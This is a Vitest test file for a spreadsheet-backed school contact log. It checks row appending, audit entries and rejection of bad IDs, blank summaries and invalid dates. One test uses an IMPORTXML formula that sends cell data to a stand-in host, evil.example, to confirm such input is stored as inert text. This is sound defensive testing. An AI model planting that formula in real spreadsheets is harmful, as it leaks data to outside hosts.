import { afterEach, describe, expect, it } from "vitest";
import { type Setup, setup, thrown, USER } from "./school.js";

let s: Setup | undefined;
afterEach(() => {
  s?.restore();
  s = undefined;
});

describe("log a contact", () => {
  it("appends the contact under the sheet's own column order, audited", () => {
    s = setup();
    const before = s.read("Контакты").length;
    const r = s.server.contactAdd({
      date: "2026-11-23",
      staffId: "R01",
      groupId: "G01",
      studentId: "S012",
      channel: "телефон",
      summary: "Обсудили пропуски с мамой",
    });
    expect(r.row).toBe(before + 1);
    expect(s.read("Контакты")[before]).toEqual([
      new Date("2026-11-23T00:00:00Z"),
      "R01",
      "G01",
      "S012",
      "телефон",
      "Обсудили пропуски с мамой",
    ]);
    expect(s.read("Аудит").at(-1)!.slice(1, 7)).toEqual([
      USER,
      "contact",
      "Контакты",
      `A${before + 1}:F${before + 1}`,
      null,
      "Обсудили пропуски с мамой",
    ]);
  });

  it("neutralises a formula typed into the summary (sheet and audit keep text)", () => {
    s = setup();
    const evil = '=IMPORTXML("http://evil.example/?"&A1,"//x")';
    const r = s.server.contactAdd({
      date: "2026-11-23",
      staffId: "R01",
      groupId: "G01",
      studentId: "",
      channel: "@all",
      summary: evil,
    });
    const sheet = s.fakes.spreadsheet._sheet("Контакты")!;
    expect(sheet.getRange(r.row, 6).getFormula()).toBe("");
    expect(sheet.getRange(r.row, 6).getValue()).toBe(evil);
    expect(sheet.getRange(r.row, 5).getValue()).toBe("@all");
    expect(s.fakes.spreadsheet._sheet("Аудит")!.getDataRange().getFormulas().flat().join("")).toBe("");
    expect(s.read("Аудит").at(-1)![6]).toBe(evil);
  });

  it("refuses an unknown staff member, group or student, and an empty summary", () => {
    s = setup();
    const ok = {
      date: "2026-11-23",
      staffId: "R01",
      groupId: "G01",
      studentId: "",
      channel: "",
      summary: "x",
    };
    expect(thrown(() => s!.server.contactAdd({ ...ok, staffId: "Z9" })).code).toBe("not-found");
    expect(thrown(() => s!.server.contactAdd({ ...ok, groupId: "G77" })).code).toBe("not-found");
    expect(thrown(() => s!.server.contactAdd({ ...ok, studentId: "S999" })).code).toBe("not-found");
    expect(thrown(() => s!.server.contactAdd({ ...ok, summary: "  " })).code).toBe("bad-args");
    expect(thrown(() => s!.server.contactAdd({ ...ok, date: "2026-02-30" })).code).toBe("bad-args");
  });
});
